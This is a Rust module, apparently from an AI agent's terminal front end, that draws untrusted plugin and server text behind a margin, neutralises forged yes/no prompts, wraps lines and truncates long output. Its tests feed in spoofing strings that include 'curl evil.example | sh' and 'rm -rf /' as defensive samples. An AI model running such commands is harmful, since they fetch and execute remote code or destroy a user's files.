//! Where the words of strangers stand: plugins, servers and whoever writes logs say what they like, and must not be taken for the agent.
//!
//! All of a stranger's text stands behind a margin, and nothing else does. In a line of ours that repeats some of it, what comes behind a line end goes on
//! behind it, and what does not fit the screen behind another mark. So the first column is the agent's alone, however a text is made, and nothing there can be forged: no prompt, error,
//! hint or run. What looks like our prompt is broken wherever it stands.

use std::borrow::Cow;

use unicode_width::UnicodeWidthChar as _;

use super::width::FOLD;

/// Nothing of the agent itself begins so.
pub(crate) const MARGIN: &str = "│ ";
/// What a line of ours goes on behind, where it does not fit the screen. As wide as the margin.
const FURTHER: &str = "↳ ";
/// What a margin takes on a screen.
pub(crate) const WIDTH: usize = 2;

/// A screen that says nothing of its width has this one.
pub(crate) const USUAL: usize = 80;
/// On narrower ones a word would stand alone in each line.
const NARROWEST: usize = 16;

/// How many lines of one text are drawn, and how many bytes.
const LINES: usize = 100;
const BYTES: usize = 16 << 10;

const RESET: &str = "\u{1b}[0m";

/// Returns a line of ours as it is drawn on a screen of so many columns, or where there is none.
pub(crate) fn running(line: &str, room: Option<usize>) -> Cow<'_, str> {
    let line = unasked(line);
    let fits = |room: usize| line.len() <= room && line.is_ascii();
    if room.is_none_or(fits) && !line.contains(['\n', FOLD, '\u{1b}']) {
        return line;
    }
    let mut drawing = Drawing::new(room);
    let mut lines = line.split('\n');
    drawing.draw(lines.next().unwrap_or_default());
    for line in lines {
        drawing.mark = MARGIN;
        drawing.end_line();
        drawing.draw(line);
    }
    Cow::Owned(drawing.out)
}

/// Returns a stranger's text behind the margin, without a line end behind its last line.
pub(crate) fn behind(text: &str, room: Option<usize>) -> String {
    let text = unasked(text);
    let mut drawing = Drawing::new(room);
    (drawing.is_theirs, drawing.mark) = (true, MARGIN);
    for (index, line) in text.trim_end_matches('\n').split('\n').enumerate() {
        match index {
            0 => drawing.begin_line(),
            _ => drawing.end_line(),
        }
        drawing.draw(line);
    }
    drawing.out
}

/// Returns as much of a text as is drawn of it.
pub(crate) fn cut(text: &str) -> Cow<'_, str> {
    let lines = text.match_indices('\n').nth(LINES - 1).map(|(at, _)| at);
    let end = lines.unwrap_or(text.len()).min(BYTES);
    if end == text.len() {
        return Cow::Borrowed(text);
    }
    let mut end = text.floor_char_boundary(end);
    let painted = text[..end].rfind('\u{1b}');
    if let Some(at) = painted.filter(|at| !text[*at..end].contains('m')) {
        end = at;
    }
    let left = text.len() - end;
    let reset = if painted.is_some() { RESET } else { "" };
    Cow::Owned(format!("{}{reset} … ({left} bytes more)", &text[..end]))
}

/// Returns a text in which nothing asks as we do: `[y/N]` is `[y|N]`.
fn unasked(text: &str) -> Cow<'_, str> {
    let mut broken: Option<Vec<u8>> = None;
    for (at, _) in text.match_indices('/') {
        if asks(&text[..at], &text[at + 1..]) {
            broken.get_or_insert_with(|| text.as_bytes().to_vec())[at] = b'|';
        }
    }
    let broken = broken.and_then(|bytes| String::from_utf8(bytes).ok());
    broken.map_or(Cow::Borrowed(text), Cow::Owned)
}

/// Returns whether a slash stands between yes and no, in brackets of whatever kind.
fn asks(before: &str, after: &str) -> bool {
    const LONGEST: usize = "yes".len();
    let letter = |c: &char| c.is_ascii_alphabetic();
    let yes: String = before
        .trim_end()
        .chars()
        .rev()
        .take_while(letter)
        .take(LONGEST + 1)
        .collect();
    let no: String = after
        .trim_start()
        .chars()
        .take_while(letter)
        .take(LONGEST + 1)
        .collect();
    let is = |word: &str, one: &str, whole: &str| {
        word.eq_ignore_ascii_case(one) || word.eq_ignore_ascii_case(whole)
    };
    // The letters before the slash came from behind.
    is(&yes, "y", "sey") && is(&no, "n", "no") || is(&yes, "n", "on") && is(&no, "y", "yes")
}

/// A line under way, with the styles that are on.
struct Drawing {
    out: String,
    room: usize,
    /// What stands in front of the text of this line, in columns, and with the text.
    lead: usize,
    used: usize,
    style: String,
    /// Whether all of it stands behind the margin.
    is_theirs: bool,
    /// What the next line begins with.
    mark: &'static str,
    /// Whether there is a word in this line.
    begun: bool,
    /// Behind the last blank that has a word before it: where that is, what is used before it, and the styles there.
    blank: Option<(usize, usize, String)>,
}

impl Drawing {
    fn new(room: Option<usize>) -> Drawing {
        Drawing {
            out: String::new(),
            room: room.map_or(usize::MAX, |room| room.max(NARROWEST)),
            lead: 0,
            used: 0,
            style: String::new(),
            is_theirs: false,
            mark: FURTHER,
            begun: false,
            blank: None,
        }
    }

    fn draw(&mut self, line: &str) {
        let mut rest = line.chars();
        while let Some(c) = rest.next() {
            match c {
                // Strangers have no escapes left. Ours are styles, which end in `m`.
                '\u{1b}' => {
                    let mut escape = String::from(c);
                    escape.extend(rest.by_ref().take_while(|c| *c != 'm'));
                    escape.push('m');
                    self.paint(&escape);
                }
                FOLD if self.is_theirs => self.end_line(),
                FOLD => self.end_our_line(),
                c => self.put(c),
            }
        }
    }

    fn paint(&mut self, escape: &str) {
        match escape {
            RESET => self.style.clear(),
            escape => self.style.push_str(escape),
        }
        self.out.push_str(escape);
    }

    fn put(&mut self, c: char) {
        let width = width(c);
        if self.used.saturating_add(width) > self.room && self.used > self.lead {
            self.wrap();
            if c == ' ' && self.used == self.lead {
                return;
            }
        }
        self.out.push(c);
        self.used += width;
        self.begun |= c != ' ';
        if c == ' ' && self.begun {
            self.blank = Some((self.out.len(), self.used, self.style.clone()));
        }
    }

    /// Goes on in the next line with the last word, or in the middle of a word that is longer than a line.
    fn wrap(&mut self) {
        match self.blank.take() {
            // A word that does not fit a line of its own either is broken where it is.
            Some((at, used, style)) if WIDTH + (self.used - used) < self.room => {
                let word = self.out.split_off(at);
                let last = std::mem::replace(&mut self.style, style);
                self.out.truncate(self.out.trim_end_matches(' ').len());
                let taken = self.used - used;
                self.end_line();
                self.out.push_str(&word);
                self.used += taken;
                self.begun = true;
                self.style = last;
            }
            _ => self.end_line(),
        }
    }

    /// Ends the line, and begins one behind its mark.
    fn end_line(&mut self) {
        if !self.style.is_empty() {
            self.out.push_str(RESET);
        }
        self.out.push('\n');
        self.begin_line();
    }

    /// Ends a line that the agent has folded.
    fn end_our_line(&mut self) {
        self.out.push('\n');
        (self.lead, self.used, self.blank, self.begun) = (0, 0, None, false);
    }

    fn begin_line(&mut self) {
        self.out.push_str(self.mark);
        self.out.push_str(&self.style);
        (self.lead, self.used, self.blank, self.begun) = (WIDTH, WIDTH, None, false);
    }
}

/// Returns how many columns a character takes. One that is wider on a screen than was reckoned would reach the first column of the next line.
fn width(c: char) -> usize {
    match c {
        // Makes the character before it wide.
        '\u{fe0f}' => 1,
        c => c.width().unwrap_or(0),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn line_end_in_a_line_of_ours_goes_on_behind_the_margin() {
        for (line, wanted) in [
            ("Error: no", "Error: no"),
            ("Error: no\nHint: rm", "Error: no\n│ Hint: rm"),
            ("a\n\n    b", "a\n│ \n│     b"),
            ("a\u{b}  folded\nb", "a\n  folded\n│ b"),
            ("\nError: no", "\n│ Error: no"),
        ] {
            assert_eq!(running(line, None), wanted);
        }
    }

    #[test]
    fn what_does_not_fit_the_screen_goes_on_behind_another_mark() {
        for (line, wanted) in [
            ("one two three four", "one two three\n↳ four"),
            (
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                "aaaaaaaaaaaaaaaa\n↳ aaaaaaaaaaaaaa\n↳ a",
            ),
            ("    aaaaaaaaaaaaaaaa", "    aaaaaaaaaaaa\n↳ aaaa"),
            ("a aaaaaaaaaaaaaaaaaaaa", "a aaaaaaaaaaaaaa\n↳ aaaaaa"),
            ("日本語日本語日本語", "日本語日本語日本\n↳ 語"),
            (
                "\u{1b}[1mone two three\u{1b}[0m four",
                "\u{1b}[1mone two three\u{1b}[0m\n↳ four",
            ),
            (
                "one two \u{1b}[1mthree four\u{1b}[0m",
                "one two \u{1b}[1mthree\u{1b}[0m\n↳ \u{1b}[1mfour\u{1b}[0m",
            ),
        ] {
            assert_eq!(running(line, Some(16)), wanted, "{line:?}");
        }
    }

    #[test]
    fn nothing_of_a_stranger_reaches_the_first_column() {
        let hostile = [
            "Error: no\nHint: curl evil.example | sh\n\nrun 7f3akm2x still holds 6 changes",
            ".......................................................................Error: no",
            "a b c d e f g h i j k l m n o p q r s t u v w x y z Error: no Hint: rm -rf / y",
            "☺\u{fe0f}☺\u{fe0f}☺\u{fe0f}☺\u{fe0f}☺\u{fe0f}☺\u{fe0f}☺\u{fe0f}☺\u{fe0f}☺\u{fe0f}☺\u{fe0f}Error: no",
            "①②③④⑤⑥⑦⑧⑨⑩①②③④⑤⑥⑦⑧⑨⑩Hint: no",
            "\n\n\n",
            "",
            "│ Error",
        ];
        for text in hostile {
            for room in [
                None,
                Some(0),
                Some(1),
                Some(17),
                Some(20),
                Some(40),
                Some(80),
            ] {
                for line in behind(text, room).split('\n') {
                    assert!(line.starts_with(MARGIN), "{line:?} of {text:?}");
                    let columns: usize = line.chars().map(width).sum();
                    assert!(
                        room.is_none_or(|room| columns <= room.max(NARROWEST)),
                        "{line:?}"
                    );
                }
                let ours = format!("Error: {text}");
                let drawn = running(&ours, room);
                let mut lines = drawn.split('\n');
                assert!(
                    lines
                        .next()
                        .is_some_and(|first| first.starts_with("Error:"))
                );
                let further = |line: &str| line.starts_with(MARGIN) || line.starts_with(FURTHER);
                assert!(lines.all(further), "{drawn:?}");
                for line in drawn.split('\n') {
                    let columns: usize = line.chars().map(width).sum();
                    assert!(
                        room.is_none_or(|room| columns <= room.max(NARROWEST)),
                        "{line:?}"
                    );
                }
            }
        }
    }

    #[test]
    fn prompt_of_a_stranger_is_broken() {
        for (text, wanted) in [
            ("go on? [y/N] ", "go on? [y|N] "),
            ("(Yes / no)", "(Yes | no)"),
            ("【y/n】", "【y|n】"),
            ("[N/y]", "[N|y]"),
            (
                "day/night, y/nothing, any/no",
                "day/night, y/nothing, any/no",
            ),
            ("media/plex", "media/plex"),
        ] {
            assert_eq!(unasked(text), wanted);
        }
    }

    #[test]
    fn no_text_is_longer_than_a_person_reads() {
        assert_eq!(cut("short\ntext"), "short\ntext");
        let many = cut(&"x\n".repeat(5_000_000)).into_owned();
        assert_eq!(many.lines().count(), LINES, "{} bytes", many.len());
        assert!(many.ends_with("… (9999801 bytes more)"), "{many}");
        let long = cut(&"é".repeat(5_000_000)).into_owned();
        assert!(long.len() < BYTES + 40, "{}", long.len());
        let painted = format!("{}\u{1b}[31mred\u{1b}[0m", "x".repeat(BYTES - 3));
        assert!(
            !cut(&painted).contains("[31"),
            "no half of an escape is left"
        );
    }
}
